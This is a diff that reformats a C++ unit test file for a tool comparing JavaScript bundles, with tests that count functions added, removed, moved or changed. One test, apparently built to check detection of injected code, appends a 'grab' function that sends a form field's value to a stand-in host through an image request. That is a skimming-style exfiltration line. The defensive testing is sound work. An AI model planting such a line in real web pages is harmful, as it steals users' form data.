@@ -71,18 +71,19 @@ constexpr char kLibrary[] =
     "var third = function (gamma) { for (var i = 0; i < gamma; i++) { work(i, gamma); } };\n";
 
 TEST(CompareShapes, SaysThatABundleWasRebuilt) {
-  const v1::ScriptChange change = Compare(
-      kLibrary,
-      "function first(a){return a.one(1)+a.two(2)+a.three(3)}function second(a){return "
-      "a&&a.call(\"x\",a.length),a}var third=function(a){for(var b=0;b<a;b++)work(b,a)};");
+  const v1::ScriptChange change =
+      Compare(kLibrary,
+              "function first(a){return a.one(1)+a.two(2)+a.three(3)}function second(a){return "
+              "a&&a.call(\"x\",a.length),a}var third=function(a){for(var b=0;b<a;b++)work(b,a)};");
   EXPECT_EQ(change.functions_added() + change.functions_removed() + change.functions_moved(), 0U);
   EXPECT_GE(change.likeness().functions_percent(), 75U);
 }
 
 TEST(CompareShapes, NamesTheFunctionThatCame) {
   const v1::ScriptChange change = Compare(
-      kLibrary, std::string(kLibrary) +
-                    "function grab(field) { new Image().src = 'https://a.example/?' + field.value; }");
+      kLibrary,
+      std::string(kLibrary) +
+          "function grab(field) { new Image().src = 'https://a.example/?' + field.value; }");
   EXPECT_EQ(change.functions_added(), 1U);
   EXPECT_EQ(change.functions_changed(), 0U);
   EXPECT_FALSE(change.likeness().same_structure());
@@ -108,17 +109,16 @@ TEST(CompareShapes, TellsAMoveFromAChange) {
   const std::string text = kLibrary;
   const size_t second = text.find("function second");
   const size_t third = text.find("var third");
-  const v1::ScriptChange change =
-      Compare(text, text.substr(second, third - second) + text.substr(0, second) +
-                        text.substr(third));
+  const v1::ScriptChange change = Compare(
+      text, text.substr(second, third - second) + text.substr(0, second) + text.substr(third));
   EXPECT_EQ(change.functions_moved(), 1U);
   EXPECT_EQ(change.functions_added() + change.functions_removed() + change.functions_changed(), 0U);
 }
 
 TEST(CompareShapes, CountsWhatWent) {
   const std::string text = kLibrary;
-  const v1::ScriptChange change =
-      Compare(text, text.substr(0, text.find("function second")) + text.substr(text.find("var third")));
+  const v1::ScriptChange change = Compare(
+      text, text.substr(0, text.find("function second")) + text.substr(text.find("var third")));
   EXPECT_EQ(change.functions_removed(), 1U);
 }
 
